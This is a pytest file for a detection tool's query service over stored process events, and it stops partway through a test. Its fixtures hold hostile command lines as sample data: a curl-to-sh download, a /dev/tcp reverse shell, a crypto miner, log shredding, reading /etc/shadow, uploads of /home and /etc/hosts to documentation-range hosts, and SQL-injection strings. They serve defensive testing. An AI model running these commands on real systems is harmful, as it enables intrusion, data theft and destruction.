"""QueryService over a real table (chdb, written by the clickhouse exporter): the list grouped by incident,
the event view, behaviour search, the chart, filters, tenants, and the terminal rendering."""

from __future__ import annotations

import contextlib
import json
import random
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path

import pytest
from opentelemetry.proto.collector.logs.v1.logs_service_pb2 import ExportLogsServiceRequest

from otlp_receiver.component import LogBatch
from otlp_receiver.exporters.clickhouse.config import Config
from otlp_receiver.exporters.clickhouse.exporter import ClickHouseExporter
from otlp_receiver.query import cli
from otlp_receiver.query.render import triage_list
from otlp_receiver.query.search import MAX_DERIVED_PER_SEARCH, BehaviourSearch, Pattern, understand
from otlp_receiver.query.service import MAX_LISTED_COMMAND, MAX_QUERY_CHARS, Filter, QueryService
from testing import run_command
from testing.otlp_values import key_values

HOSTILE_WORKLOAD = "web' OR '1'='1"
NOW = time.time()


@dataclass
class Stored:
    """One scored event as the anomaly processor leaves it."""

    command: str
    score: float
    severity: str = "none"
    workload: str = "web"
    host: str = "web-1"
    pid: int = 1000
    ppid: int = 1
    exe: str = ""
    uid: int = 33
    reasons: list[str] = field(default_factory=list)
    ancestors: list[str] = field(default_factory=list)
    nearest: str = ""
    incident: str = ""
    incident_score: float = 0.0
    techniques: list[str] = field(default_factory=list)
    ago: float = 60.0  # seconds before now
    extra: dict[str, object] = field(default_factory=dict)  # attributes as a hostile sender sets them

    def attributes(self) -> dict[str, object]:
        attributes: dict[str, object] = {
            "process.pid": self.pid, "process.parent_pid": self.ppid, "process.command_line": self.command,
            "process.executable.name": self.exe or self.command.split()[0], "process.user.id": self.uid,
            "process.command_args": self.command.split(), "process.parent.executable.name": (self.ancestors or [""])[0],
            "anomaly_score": self.score, "anomaly_severity": self.severity, "anomaly_workload": self.workload,
            "anomaly_reasons": self.reasons, "process.ancestors": self.ancestors, "anomaly_nearest": self.nearest,
            "anomaly_model": "hash128-v2"}
        if self.incident:
            attributes.update(anomaly_incident=self.incident, anomaly_incident_score=self.incident_score)
        if self.techniques:
            attributes["anomaly_techniques"] = self.techniques
        return {**attributes, **self.extra}


# A web worker's shell pipes a download into sh, drops and runs a binary: one incident. Around it, routine
# work, and single events that each show one behaviour in words the queries below never use.
DROPPER = [
    Stored("sh -c curl -s http://198.51.100.4/i.sh | sh", 0.81, "alert", pid=200, ppid=101,
           reasons=["shell spawned by nginx [T1505.003]"], ancestors=["nginx", "nginx"], incident="inc-7",
           incident_score=0.97, techniques=["T1505.003"], ago=50),
    Stored("curl -s http://198.51.100.4/i.sh", 0.62, "warn", pid=201, ppid=200,
           reasons=["download piped into sh: curl | sh [T1105]"], ancestors=["sh", "nginx"], incident="inc-7",
           incident_score=0.97, techniques=["T1105"], ago=49),
    Stored("sh", 0.7, "warn", pid=202, ppid=200, reasons=["download piped into sh: curl | sh [T1105]"],
           ancestors=["sh", "nginx"], incident="inc-7", incident_score=0.97, techniques=["T1105"], ago=49),
    Stored("chmod +x /tmp/.cache-x", 0.74, "warn", pid=203, ppid=202, ancestors=["sh", "sh", "nginx"],
           reasons=["made executable in a temporary directory [T1222.002]"], incident="inc-7", incident_score=0.97,
           techniques=["T1222.002"], ago=48),
]
SINGLES = [
    Stored("bash -i >& /dev/tcp/198.51.100.4/4444 0>&1", 0.93, "alert", pid=300, ancestors=["sh"],
           reasons=["interactive shell started non-interactively"], host="web-2", ago=40),
    Stored("xmrig --donate-level 1 -o stratum+tcp://198.51.100.9:3333", 0.71, "warn", pid=301, ancestors=["bash"],
           workload="batch", host="batch-1", ago=30),
    Stored("shred -u /var/log/auth.log", 0.72, "warn", pid=302, ancestors=["bash"], workload="admin", host="adm",
           uid=0, ago=30),
    Stored("cat /etc/shadow", 0.6, "warn", pid=303, ancestors=["bash"], workload="admin", host="adm", uid=0, ago=30),
    Stored("tar czf - /home | curl --data-binary @- https://198.51.100.7/u", 0.66, "warn", pid=304, workload="admin",
           host="adm", ancestors=["bash"], ago=30),
    Stored("sudo find / -exec /bin/sh ; -quit", 0.77, "alert", pid=305, ancestors=["bash"], workload="admin",
           host="adm", uid=1000, ago=30),
    # Evidence the scoring found, in a command line that says nothing by itself.
    Stored("/usr/local/bin/pkgd --install-schedule", 0.68, "warn", pid=306, ancestors=["bash"], workload="admin",
           host="adm", techniques=["T1053.003"], reasons=["writes cron [T1053.003]"], ago=30),
    Stored("echo '*/5 * * * * root /opt/x' > /etc/cron.d/x", 0.55, "warn", pid=307, ancestors=["bash"],
           workload="admin", host="adm", uid=0, ago=30),
]
ROUTINE = [Stored("nginx -g daemon off;", 0.02, pid=100, uid=0, ancestors=["systemd"], ago=90 - i) for i in range(3)]
ROUTINE += [Stored("date", 0.05, pid=400 + i, ancestors=["sh", "fcgiwrap"], nearest="date", ago=20 + i)
            for i in range(4)]
ROUTINE += [Stored("python3 build.py --sign", 0.7, "warn", workload="ci", host="ci-1", pid=500, uid=1001,
                   nearest="make all", ago=10),
            Stored("sh -c 'id; \x1b[2J'", 0.9, "alert", workload=HOSTILE_WORKLOAD, host="h", pid=600,
                   reasons=["binary in /dev/shm"], ago=5),
            Stored("nginx -s reload", 0.3, workload="vm", host="vm", pid=700, uid=0, ago=7200)]
ALL = DROPPER + SINGLES + ROUTINE


def stored_batch(batch_id: str, tenant: str, events: list[Stored]) -> LogBatch:
    request = ExportLogsServiceRequest()
    for event in events:
        resource_logs = request.resource_logs.add()
        resource_logs.resource.attributes.extend(key_values({"host.name": event.host}))
        record = resource_logs.scope_logs.add().log_records.add()
        record.time_unix_nano = int((NOW - event.ago) * 1e9)
        record.body.string_value = event.command
        record.attributes.extend(key_values(event.attributes()))
    return LogBatch(logs=request, tenant=tenant, batch_id=batch_id)


def exported(path: Path, *batches: LogBatch) -> Path:
    """`path`, a chdb directory holding the batches as the ClickHouse exporter stores them."""
    exporter = ClickHouseExporter(Config(endpoint=f"chdb://{path}", database="q"))
    exporter.start()
    try:
        for batch in batches:
            exporter.export(batch)
    finally:
        exporter.shutdown()
    return path


@contextlib.contextmanager
def query_service(path: Path) -> Iterator[QueryService]:
    query = QueryService.from_exporter_config(Config(endpoint=f"chdb://{path}", database="q"))
    try:
        yield query
    finally:
        query.close()


@pytest.fixture(scope="module")
def clickhouse_dir(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return exported(tmp_path_factory.mktemp("query") / "clickhouse", stored_batch("1", "team-a", ALL),
                    stored_batch("2", "team-b", [ROUTINE[0]]))


@pytest.fixture
def service(clickhouse_dir: Path) -> Iterator[QueryService]:
    with query_service(clickhouse_dir) as query:
        yield query


def record_of(command: str) -> str:
    """Record ids are `batch:ordinal`: the events of team-a in ALL's order."""
    return f"1:{[event.command for event in ALL].index(command)}"


# -- search ----------------------------------------------------------------------------------------------


@pytest.mark.parametrize(("query", "expected"), [
    ("reverse shell", "bash -i >& /dev/tcp/198.51.100.4/4444 0>&1"),
    ("crypto miner", "xmrig --donate-level 1 -o stratum+tcp://198.51.100.9:3333"),
    ("log tampering", "shred -u /var/log/auth.log"),
    ("credential access", "cat /etc/shadow"),
    ("data sent out", "tar czf - /home | curl --data-binary @- https://198.51.100.7/u"),
    ("privilege escalation through sudo", "sudo find / -exec /bin/sh ; -quit"),
    ("download and execute", "sh -c curl -s http://198.51.100.4/i.sh | sh"),
    ("web shell", "sh -c curl -s http://198.51.100.4/i.sh | sh"),
    # One word the lexicon lacks: a compound of two it has, or the start of one.
    ("cryptominer", "xmrig --donate-level 1 -o stratum+tcp://198.51.100.9:3333"),
    ("reverseshell", "bash -i >& /dev/tcp/198.51.100.4/4444 0>&1"),
    ("exfil", "tar czf - /home | curl --data-binary @- https://198.51.100.7/u"),
])
def test_search_finds_behaviour_in_words_the_event_does_not_use(service: QueryService, query: str,
                                                                 expected: str) -> None:
    results = service.search("team-a", query, limit=5)
    assert results and results[0]["command_line"] == expected, [r["command_line"] for r in results]
    assert results[0]["matched"]["techniques"], "a match says which behaviour it found"
    assert results[0]["relevance"] >= results[-1]["relevance"]


@pytest.mark.parametrize("word", ["a" * MAX_QUERY_CHARS,
                                  "".join(random.Random(4).choices("abcdefghij", k=MAX_QUERY_CHARS))],
                         ids=["one letter", "random letters"])
def test_a_query_of_one_long_word_costs_milliseconds(service: QueryService, word: str) -> None:
    """A pasted blob (base64, a hash) is one word: the longest query allowed took 9 s of the receiver's CPU,
    every cut of it tried as a compound of two words."""
    started = time.process_time()
    assert service.search("team-a", word) == []
    assert time.process_time() - started < 1.0


def test_a_query_of_a_thousand_words_ranks_many_patterns_in_a_fraction_of_a_second() -> None:
    """A pasted script is hundreds of words, each once checked against every pattern: about 0.7 s of the
    receiver's CPU per search over 10,000 patterns, 14 s over the 200,000 a search may rank. Now each pattern's
    few tokens meet the query's words as sets."""
    rng = random.Random(3)
    vocabulary = sorted({"".join(rng.choices("abcdefghijklmnop", k=3)) for _ in range(3000)})
    patterns = [Pattern(record_id=f"1:{i}", workload="w", host="h", command_line=" ".join(rng.choices(vocabulary, k=8)))
                for i in range(10_000)]
    search = BehaviourSearch()
    search.rank("warm the features", patterns, 20)
    query = " ".join(rng.sample(vocabulary, 1000))[:MAX_QUERY_CHARS]
    started = time.process_time()
    matches = search.rank(query, patterns, 20).matches
    assert time.process_time() - started < 0.4
    assert len(matches) == 20 and all(match.words for match in matches)


@pytest.mark.parametrize(("query", "technique"), [
    ("nmap", "T1046"),  # a tool's name says what it is for
    ("insmod", "T1547.006"),
    ("privesc", "T1548"),
    ("ping sweep", "T1018"),  # ids the scoring names are in the lexicon
    ("dns c2", "T1071.004"),
    ("exfiltration over dns", "T1048.003"),
    ("living off the land", "T1059.004"),  # jargon: GTFOBins-style shell escapes
    ("implant calling home", "T1071.001"),
    ("ransom note", "T1486"),
    ("website defacement", "T1491.001"),  # impact, collection and initial access the scoring names
    ("microphone recording", "T1123"),
    ("supply chain compromise", "T1195.002"),
    ("fileless execution", "T1620"),
    ("network sniffer", "T1040"),
])
def test_queries_are_read_through_tool_names_abbreviations_and_misspellings(query: str, technique: str) -> None:
    meaning = understand(query)
    assert meaning.techniques.get(technique, 0) >= 0.9, meaning.techniques


@pytest.mark.parametrize(("query", "technique"), [
    ("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "T1095"),
    ("find / -perm -4000 -type f 2>/dev/null", "T1548.001"),
    ("chmod u+s /tmp/.sh", "T1548.001"),
    ("python3 -c 'import pty; pty.spawn(\"/bin/bash\")'", "T1059.004"),
])
def test_a_command_quoted_in_a_query_means_what_it_shows(query: str, technique: str) -> None:
    """A query that pastes a command is read by the indicators a command line is: `chmod u+s` is setuid, where
    the words alone (`chmod`) said only a permissions change."""
    assert understand(query).techniques.get(technique, 0) >= 0.9, understand(query).techniques


@pytest.mark.parametrize(("query", "technique"), [
    ("who checked the kernel version and distro", "T1082"), ("backdoor user", "T1136.001"),
    ("a fake sshd", "T1036.005"), ("bash tcp redirection", "T1095"),
])
def test_everyday_ways_to_say_a_technique_are_read(query: str, technique: str) -> None:
    meaning = understand(query)
    assert max(meaning.techniques, key=meaning.techniques.__getitem__) == technique, meaning.techniques


def test_what_a_query_asks_to_leave_out_is_not_read_as_wanted() -> None:
    """`not the CI pipeline pulling npm packages` named package installs as much as the download asked for."""
    wanted = understand("downloads of tools onto the box; don't show me crontab edits or cron jobs")
    assert wanted.techniques.get("T1105", 0) >= 0.5 and "T1053.003" not in wanted.techniques, wanted.techniques
    assert "cron" not in " ".join(wanted.words)
    assert understand("not interested in cron, just show me reverse shells").techniques.get("T1053.003") is None
    assert understand("don't show me cron").techniques.get("T1053.003")  # all it says: read as it is


@pytest.mark.parametrize(("typed", "meant"), [("exfiltraiton", "exfiltration"), ("persistance", "persistence"),
                                              ("reconnaisance", "reconnaissance"),
                                              ("ransomwear", "ransomware"),  # two letters off a long word
                                              ("defence evasion", "defense evasion"),  # British spelling
                                              ("TA0010", "exfiltration")])  # a tactic's ATT&CK id
def test_a_misspelled_british_or_numbered_query_is_read_as_the_words_meant(typed: str, meant: str) -> None:
    assert understand(typed).techniques == understand(meant).techniques != {}


def test_a_short_word_two_letters_off_the_lexicon_is_not_guessed() -> None:
    assert understand("sniffr").techniques.get("T1040")  # one letter off "sniffer"
    assert not understand("snaffr").techniques  # two off: below MIN_TWO_TYPOS letters, a guess too far


def test_a_query_of_hundreds_of_unknown_words_is_read_in_bounded_time() -> None:
    """Each word the lexicon lacks is matched for misspellings; 372 random ten-letter words (4 KB, the most a
    query may hold) took 3.4 s of CPU when every lexicon spelling was compared letter by letter."""
    rng = random.Random(13)
    query = " ".join("".join(rng.choices("abcdefghijklmnopqrstuvwxyz", k=10)) for _ in range(372))[:MAX_QUERY_CHARS]
    started = time.process_time()
    understand(query)
    assert time.process_time() - started < 1.5


def test_an_indicator_is_a_whole_word_hyphenated_words_included() -> None:
    """`rev` (T1140) is not in `git rev-parse`, nor `w` (T1033) in `sysctl -w`."""
    routine = [Pattern(record_id=f"1:{i}", workload="w", host="h", command_line=line, score=0.5)
               for i, line in enumerate(("git rev-parse HEAD", "sysctl -w vm.swappiness=10"))]
    reversed_ = Pattern(record_id="1:9", workload="w", host="h", command_line="rev /tmp/.p", score=0.5)
    assert [m.pattern.record_id for m in BehaviourSearch().rank("decode", [*routine, reversed_], 10).matches] == ["1:9"]
    assert not BehaviourSearch().rank("who am i", routine, 10).matches
    # A name stays a name inside a hyphenated word: clamav (security software) in clamav-daemon.
    checked = Pattern(record_id="1:7", workload="w", host="h", command_line="systemctl status clamav-daemon", score=0.5)
    ranked = BehaviourSearch().rank("find security software", [checked], 10).matches
    assert [m.pattern.record_id for m in ranked] == ["1:7"]


def test_a_query_naming_a_tactic_means_every_technique_of_it() -> None:
    meaning = understand("command and control")
    assert all(meaning.techniques.get(t, 0) == 1.0 for t in ("T1095", "T1572", "T1105", "T1071.001")), meaning
    assert meaning.techniques.get("T1548", 0) < 0.3  # "Abuse Elevation Control Mechanism" shares only a word
    assert all(understand("c2").techniques.get(t, 0) == 1.0 for t in ("T1095", "T1572", "T1105", "T1071.001"))


def test_the_programs_a_reason_names_about_the_session_do_not_match_a_query() -> None:
    """"follows 2 other sensitive commands in this session (insmod, nmap)" is about other events."""
    quiet = Pattern(record_id="1:1", workload="w", host="h", command_line="id", score=0.9,
                    reasons=("follows 2 other sensitive commands in this session within 10 min (insmod, nmap)",))
    scan = Pattern(record_id="1:2", workload="w", host="h", command_line="nmap -sS 10.0.0.0/24", score=0.3)
    assert [m.pattern.record_id for m in BehaviourSearch().rank("nmap", [quiet, scan], 10).matches] == ["1:2"]


def test_search_finds_what_the_evidence_names_and_what_the_command_shows(service: QueryService) -> None:
    commands = [r["command_line"] for r in service.search("team-a", "persistence via cron", limit=5)]
    # The first only through its evidence (anomaly_techniques, the reason's [T1053.003]); the second by its path.
    assert set(commands[:2]) == {"/usr/local/bin/pkgd --install-schedule",
                                 "echo '*/5 * * * * root /opt/x' > /etc/cron.d/x"}
    assert "nginx -g daemon off;" not in commands


def test_search_matches_plain_words_and_attack_ids(service: QueryService) -> None:
    assert service.search("team-a", "nginx reload")[0]["command_line"] == "nginx -s reload"
    assert service.search("team-a", "T1496")[0]["command_line"].startswith("xmrig")
    assert service.search("team-a", "zebra crossing") == []


def test_search_shows_a_repeated_command_once_with_its_count(service: QueryService) -> None:
    results = service.search("team-a", "nginx daemon", limit=10)
    nginx = [r for r in results if r["command_line"] == "nginx -g daemon off;"]
    assert len(nginx) == 1 and nginx[0]["occurrences"] == 3


def test_results_never_cross_tenants(service: QueryService) -> None:
    assert [r["record_id"] for r in service.search("team-b", "nginx", limit=10)] == ["2:0"]
    assert service.search("team-c", "reverse shell") == []
    assert service.search("team-a' OR TenantId != '", "nginx") == []
    assert service.anomalies(Filter("team-c")) == []


def test_workload_filter_binds_hostile_names(service: QueryService) -> None:
    results = service.search("team-a", "sh id", workload=HOSTILE_WORKLOAD)
    assert [r["workload"] for r in results] == [HOSTILE_WORKLOAD]
    assert service.anomalies(Filter("team-a", workload="ci"))[0]["command_line"] == "python3 build.py --sign"
    assert service.search("team-a", "curl; DROP TABLE q.security_events --", workload="web")


# -- the ranked list ---------------------------------------------------------------------------------------


def test_anomalies_group_an_incident_into_one_line_with_its_tree(service: QueryService) -> None:
    results = service.anomalies(Filter("team-a", min_score=0.5))
    top = results[0]
    assert (top["kind"], top["id"], top["events"], top["rank"]) == ("incident", "inc-7", 4, 0.97)
    assert top["command_line"] == DROPPER[0].command and top["severity"] == "alert"
    assert top["techniques"] == ["T1505.003", "T1222.002", "T1105"]  # the highest-scored events' first
    [root] = top["chain"]
    assert root["command_line"] == DROPPER[0].command
    assert [child["command_line"] for child in root["children"]] == ["curl -s http://198.51.100.4/i.sh", "sh"]
    assert root["children"][1]["children"][0]["command_line"] == "chmod +x /tmp/.cache-x"
    assert not any(r["command_line"].startswith("curl -s http") for r in results[1:]), "its events are not repeated"
    assert [r["rank"] for r in results] == sorted((r["rank"] for r in results), reverse=True)


def test_anomalies_can_list_every_command_line_instead(service: QueryService) -> None:
    results = service.anomalies(Filter("team-a", min_score=0.5), by_incident=False)
    assert {r["kind"] for r in results} == {"pattern"}
    assert results[0]["command_line"] == "bash -i >& /dev/tcp/198.51.100.4/4444 0>&1"
    assert "curl -s http://198.51.100.4/i.sh" in [r["command_line"] for r in results]


def test_anomalies_filter_by_host_severity_and_time(service: QueryService) -> None:
    assert [r["command_line"] for r in service.anomalies(Filter("team-a", host="web-2"))] == [SINGLES[0].command]
    alerts = service.anomalies(Filter("team-a", severities=("alert",)))
    assert {r["severity"] for r in alerts} == {"alert"} and len(alerts) == 4
    dates = [r for r in service.anomalies(Filter("team-a", severities=("none",))) if r["command_line"] == "date"]
    assert dates[0]["events"] == 4 and dates[0]["kind"] == "pattern"
    recent = service.anomalies(Filter("team-a", since=NOW - 15))
    assert [r["command_line"] for r in recent] == ["sh -c 'id; \x1b[2J'", "python3 build.py --sign"]
    assert service.anomalies(Filter("team-a", since=NOW + 3600, until=NOW + 7200)) == []
    assert len(service.anomalies(Filter("team-a"), limit=2)) == 2


@pytest.mark.parametrize(("call", "message"), [
    (lambda s: s.search("t", "   "), "query"), (lambda s: s.search("t", "x" * 5000), "query"),
    (lambda s: s.search("t", "x", limit=0), "limit"), (lambda s: s.anomalies(Filter("t"), limit=20_000), "limit"),
    (lambda s: s.anomalies(Filter("t", min_score=2.0)), "min_score"),
    (lambda s: s.anomalies(Filter("t", severities=("bad",))), "severity"),
    (lambda s: s.anomalies(Filter("t", since=NOW, until=NOW - 1)), "since"),
    (lambda s: s.volume(Filter("t"), step=0), "step"),
    (lambda s: s.volume(Filter("t", since=0), step=1), "at least 1.* seconds over this time range"),
])
def test_bad_requests_are_value_errors(service: QueryService, call, message: str) -> None:  # type: ignore[no-untyped-def]
    with pytest.raises(ValueError, match=message):
        call(service)


# -- one event, the chart, the filters, acknowledging -----------------------------------------------------------


def test_event_view_has_the_tree_reasons_nearest_raw_attributes_and_sql(service: QueryService) -> None:
    answer = service.event("team-a", record_of("chmod +x /tmp/.cache-x"))
    assert answer is not None
    event = answer["event"]
    assert event["reasons_explained"] == [{"text": "made executable in a temporary directory",
                                           "technique": {"id": "T1222.002", "name": "Linux File and Directory "
                                                         "Permissions Modification", "tactics": ["defense evasion"]}}]
    assert answer["incident"]["id"] == "inc-7" and answer["incident"]["events"] == 4
    assert answer["chain"][0]["command_line"] == DROPPER[0].command and answer["context"] == ["nginx", "nginx"]
    assert event["raw"]["attributes"]["process.pid"] == "203" and event["raw"]["resource"]["host.name"] == "web-1"
    assert "AnomalyIncident = 'inc-7'" in answer["sql"] and "TenantId = 'team-a'" in answer["sql"]
    assert answer["sql_url"] is None  # embedded ClickHouse: no server to link to
    dated = service.event("team-a", record_of("date"))
    assert dated is not None and dated["nearest"] == {"command_line": "date", "seen": 4}
    assert dated["incident"] is None and f"RecordId = '{record_of('date')}'" in dated["sql"]
    assert service.event("team-b", record_of("chmod +x /tmp/.cache-x")) is None


def test_a_key_sent_twice_reads_as_its_first_value_as_scoring_read_it(tmp_path: Path) -> None:
    """Stored twice in the map; read as a JSON object the event view showed, and acknowledging learned, the last."""
    batch = stored_batch("1", "team-a", [Stored("id", 0.2, workload="admin")])
    record = batch.logs.resource_logs[0].scope_logs[0].log_records[0]
    record.attributes.extend(key_values({"process.command_line": "rm -rf /", "process.user.id": 0}))
    batch.logs.resource_logs[0].resource.attributes.extend(key_values({"host.name": "other"}))
    with query_service(exported(tmp_path / "clickhouse", batch)) as query:
        answer = query.event("team-a", "1:0")
        assert answer is not None
        raw = answer["event"]["raw"]
        assert raw["attributes"]["process.command_line"] == "id" and raw["resource"]["host.name"] == "web-1"
        found = query.acknowledgeable("team-a", "1:0")
        assert found is not None and (found[1]["process.command_line"], found[1]["process.user.id"]) == ("id", "33")


def test_sql_link_points_at_a_clickhouse_server_without_its_credentials(service: QueryService) -> None:
    service.clickhouse_endpoint = "https://reader:secret@clickhouse.example:8443/db"
    answer = service.event("team-a", record_of("cat /etc/shadow"))
    assert answer is not None and answer["sql_url"].startswith("https://clickhouse.example:8443/?query=SELECT")
    assert "secret" not in answer["sql_url"]


def test_volume_counts_events_by_severity_over_time(service: QueryService) -> None:
    buckets = service.volume(Filter("team-a", since=NOW - 3600), step=60)
    assert sum(b["alert"] for b in buckets) == 4 and sum(b["warn"] for b in buckets) == 10
    assert sum(b["none"] for b in buckets) == 7  # one routine line is older than the hour
    assert [b["time"] for b in buckets] == sorted(b["time"] for b in buckets)


def test_facets_list_workloads_and_hosts(service: QueryService) -> None:
    facets = service.facets(Filter("team-a"))
    assert facets["workloads"] == sorted({e.workload for e in ALL})
    assert "web-2" in facets["hosts"] and "h" in facets["hosts"]


def test_acknowledgeable_gives_back_typed_attributes(service: QueryService) -> None:
    found = service.acknowledgeable("team-a", record_of("cat /etc/shadow"))
    assert found is not None
    workload, attributes = found
    assert workload == "admin" and attributes["process.command_args"] == ["cat", "/etc/shadow"]
    assert attributes["host.name"] == "adm" and "anomaly_score" not in attributes and attributes["ts"] > 0
    assert service.acknowledgeable("team-b", record_of("cat /etc/shadow")) is None


# -- the terminal ----------------------------------------------------------------------------------------------


def test_triage_list_draws_the_chain_colours_severity_and_neutralises_control_bytes(service: QueryService) -> None:
    results = service.anomalies(Filter("team-a", min_score=0.5))
    coloured = triage_list(results, color=True, title="Top")
    lines = coloured.splitlines()
    assert lines[1].startswith("\033[1;31m  1. 0.97 ALERT") and "incident of 4 events" in lines[1]
    assert "     chain:" in lines
    assert "       nginx" in lines and any(line.startswith("          └─ sh -c curl") for line in lines)
    assert any("├─ curl -s http://198.51.100.4/i.sh" in line for line in lines)
    assert "\x1b[2J" not in coloured and "\\x1b[2J" in coloured
    plain = triage_list(results, color=False, title="Top")
    assert "\033[" not in plain.replace("\\x1b", "")
    assert "web on web-1" in plain


def test_a_workload_that_is_only_a_host_name_is_named_once(service: QueryService) -> None:
    results = service.anomalies(Filter("team-a", host="vm"))
    assert "host vm " in triage_list(results, color=False, title="Top") and "vm / vm" not in triage_list(
        results, color=False, title="Top")


def procsight(*argv: str) -> int:
    """The `procsight search` / `procsight top` commands, run in this process."""
    return run_command(cli.register, argv)


def test_cli_reads_clickhouse_directly(clickhouse_dir: Path, capsys: pytest.CaptureFixture[str]) -> None:
    direct = ("--clickhouse", f"chdb://{clickhouse_dir}", "--database", "q", "--tenant", "team-a")
    assert procsight("search", "crypto miner", *direct, "--json", "--limit", "2") == 0
    results = json.loads(capsys.readouterr().out)["results"]
    assert results[0]["command_line"].startswith("xmrig")
    assert procsight("top", *direct, "--since", "1h", "--min-score", "0.8") == 0
    out = capsys.readouterr().out
    assert out.startswith("Top anomalies since 1h (score >= 0.8, by incident):\n  1. 0.97 ALERT web on web-1")
    assert "\033[" not in out  # not a terminal: no colour codes
    assert procsight("top", *direct, "--group", "pattern", "--host", "adm", "--severity", "alert") == 0
    out = capsys.readouterr().out
    assert "sudo find / -exec /bin/sh ; -quit" in out and "cat /etc/shadow" not in out


def test_cli_refuses_an_embedded_clickhouse_path_that_does_not_exist(tmp_path: Path,
                                                                      capsys: pytest.CaptureFixture[str]) -> None:
    """The engine created a mistyped path, then answered that database procsight does not exist."""
    missing = tmp_path / "typo" / "clickhouse"
    assert procsight("top", "--clickhouse", f"chdb://{missing}") == 1
    assert f"no embedded ClickHouse at {missing}" in capsys.readouterr().err
    assert not (tmp_path / "typo").exists()
    (tmp_path / "empty").mkdir()
    assert procsight("search", "miner", "--clickhouse", f"chdb://{tmp_path / 'empty'}") == 1
    assert "no table procsight.security_events at chdb://" in capsys.readouterr().err


def test_cli_explains_a_missing_receiver(capsys: pytest.CaptureFixture[str]) -> None:
    assert procsight("top", "--endpoint", "http://127.0.0.1:1") == 1
    assert "no receiver at http://127.0.0.1:1" in capsys.readouterr().err


def test_cli_rejects_a_bad_duration_and_severity(clickhouse_dir: Path, capsys: pytest.CaptureFixture[str]) -> None:
    direct = ("--clickhouse", f"chdb://{clickhouse_dir}", "--database", "q")
    assert procsight("top", *direct, "--since", "yesterday") == 1
    assert "--since" in capsys.readouterr().err
    assert procsight("top", *direct, "--severity", "urgent") == 1
    assert "--severity" in capsys.readouterr().err


def test_a_downloader_sending_data_is_not_shown_as_a_download() -> None:
    fetch = Pattern(record_id="1:1", workload="w", host="h", command_line="wget http://203.0.113.9/kit -O /tmp/k",
                    score=0.5)
    post = Pattern(record_id="1:2", workload="w", host="h", command_line="wget --post-data=x http://203.0.113.9",
                   score=0.5)
    upload = Pattern(record_id="1:3", workload="w", host="h", command_line="curl -d @/etc/hosts http://203.0.113.9",
                     score=0.5)
    ranked = BehaviourSearch().rank("ingress tool transfer", [post, upload, fetch], 10).matches
    assert ranked[0].pattern.record_id == "1:1", ranked
    assert all("T1105" not in m.techniques for m in ranked[1:]), ranked


def test_a_stored_value_nested_thousands_deep_is_text_not_a_failed_tenant(tmp_path: Path) -> None:
    """One record whose ancestors were sent as `[[[...]]]` 5,000 deep made every list and search of its tenant
    answer 500 (json.loads raised RecursionError)."""
    deep = Stored("id", 0.9, "alert", pid=900, workload="admin", host="adm", ago=20,
                  extra={"process.ancestors": "[" * 5000 + "]" * 5000})
    path = exported(tmp_path / "clickhouse", stored_batch("1", "team-d", [deep, SINGLES[0]]))
    with query_service(path) as query:
        listed = {r["command_line"] for r in query.anomalies(Filter("team-d"), by_incident=False)}
        assert listed == {"id", SINGLES[0].command}
        assert query.search("team-d", "reverse shell", limit=5)[0]["command_line"] == SINGLES[0].command


def test_a_stored_command_line_of_megabytes_is_listed_and_searched_by_its_start(tmp_path: Path) -> None:
    """A 4 MB command line cost 8.6 s of CPU on the first search and was shipped whole on every page refresh."""
    huge = Stored("sh -c " + "x" * (4 << 20), 0.9, "alert", pid=901, workload="admin", host="h" * (1 << 20), ago=20,
                  exe="e" * (1 << 20), extra={"process.user.name": "u" * (1 << 20)})  # and its other text fields
    path = exported(tmp_path / "clickhouse", stored_batch("1", "team-e", [huge, SINGLES[0]]))
    with query_service(path) as query:
        listed = query.anomalies(Filter("team-e"), by_incident=False)
        assert max(len(r["command_line"]) for r in listed) == MAX_LISTED_COMMAND
        for field in ("executable", "user", "host"):
            assert max(len(r[field]) for r in listed) == MAX_LISTED_COMMAND, field
        started = time.process_time()
        assert query.search("team-e", "reverse shell", limit=5)[0]["command_line"] == SINGLES[0].command
        assert time.process_time() - started < 1.0
        record = next(r["record_id"] for r in listed if r["command_line"].startswith("sh -c x"))
        raw = query.event("team-e", record)["event"]["raw"]["attributes"]
        assert len(dict(raw)["process.command_line"]) == len(huge.command)


# -- a flood of distinct command lines --------------------------------------------------------------------


def flood(count: int, start: int = 0) -> list[Stored]:
    """Distinct routine command lines, as a red team sent 180,000 of (`echo 0-1`, `echo 0-2`, ...)."""
    return [Stored(f"echo 0-{i}", 0.3, pid=2000 + i % 20_000, ancestors=["bash"], ago=10 + i * 1e-4)
            for i in range(start, start + count)]


def test_a_search_derives_at_most_its_budget_of_new_patterns_the_most_suspicious_first() -> None:
    """Every search derived every uncached pattern (1-2 ms each): 216-240 CPU-s per search over 180,000 of them.
    Now a search derives at most its budget, the highest-scored first, says what it left out, and the next
    search goes on from there."""
    lines = [Pattern(record_id=f"1:{i}", workload="w", host="h", command_line=f"echo 0-{i}", score=0.3)
             for i in range(3000)]
    shell = Pattern(record_id="1:shell", workload="w", host="h", command_line="bash -i >& /dev/tcp/198.51.100.4/9 0>&1",
                    score=0.9)
    search = BehaviourSearch(derive_budget=1000)
    first = search.rank("reverse shell", [*lines, shell], 5)
    assert (first.ranked, first.left_out, first.complete) == (1000, 2001, False)
    assert [m.pattern.record_id for m in first.matches] == ["1:shell"]  # the alert is among the first derived
    second = search.rank("echo", [*lines, shell], 5)
    assert (second.ranked, second.left_out) == (2000, 1001)
    assert search.rank("echo", [*lines, shell], 5).ranked == 3000
    assert search.rank("echo", [*lines, shell], 5).complete


def test_a_search_over_a_flood_of_distinct_command_lines_costs_a_bounded_time(tmp_path: Path) -> None:
    """Stored: twice the budget of distinct lines. The first search derives only its budget; its CPU time stays
    within a few times what the same search costs once every pattern is cached (reading, ranking), where it
    was a millisecond or more per pattern."""
    count = 2 * MAX_DERIVED_PER_SEARCH  # with the reverse shell
    path = exported(tmp_path / "clickhouse", stored_batch("1", "team-f", [SINGLES[0], *flood(count - 1)]))
    with query_service(path) as query:
        started = time.process_time()
        first = query.search_answer("team-f", "reverse shell", limit=5)
        first_cpu = time.process_time() - started
        assert first["results"][0]["command_line"] == SINGLES[0].command
        assert first["incomplete"] == {"ranked": MAX_DERIVED_PER_SEARCH, "left_out": count - MAX_DERIVED_PER_SEARCH,
                                       "unembedded": 0}
        assert query.search_answer("team-f", "reverse shell", limit=5)["incomplete"] is None
        started = time.process_time()
